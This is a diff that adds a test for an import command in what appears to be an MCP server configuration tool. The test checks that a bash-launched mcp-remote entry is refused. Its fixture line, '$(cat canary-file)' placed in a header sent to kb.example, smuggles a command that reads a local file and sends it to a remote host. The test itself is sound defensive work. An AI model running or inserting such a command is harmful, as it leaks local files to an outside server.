@@ -225,6 +225,17 @@ Next steps:
     });
   });
 
+  test("an entry that starts another bridge in an unreadable way is refused, not taken for a local server", async () => {
+    const { put, run } = user();
+    const args = ["-c", "npx mcp-remote https://kb.example/mcp --header A:$(cat canary-file)"];
+    const file = put("x.json", JSON.stringify({ mcpServers: { kb: { command: "bash", args } } }));
+    const { out } = await run(importCommand, file);
+    expect(out).toBe(`Cannot be imported:
+  kb  ${file}, through mcp-remote
+    its command line starts mcp-remote in a way that import cannot read: add the server by setup --url
+`);
+  });
+
   test("notes each dropped header, and keeps an Authorization header of another scheme than Bearer", async () => {
     const { put, run, servers } = user();
     const headers = {
